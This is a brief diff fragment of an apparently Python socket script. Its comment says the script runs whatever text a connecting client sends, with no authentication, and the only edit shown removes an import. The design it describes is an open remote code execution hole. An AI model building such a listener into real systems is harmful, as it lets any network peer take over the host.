@@ -2,7 +2,6 @@
 # descriptor 0, a socket, and runs the text that it is.  Without any check: whoever connects is in.
 import os
 import socket
-import sys
 
 sock = socket.fromfd(0, socket.AF_INET, socket.SOCK_STREAM)
 null = os.open(os.devnull, os.O_RDONLY)
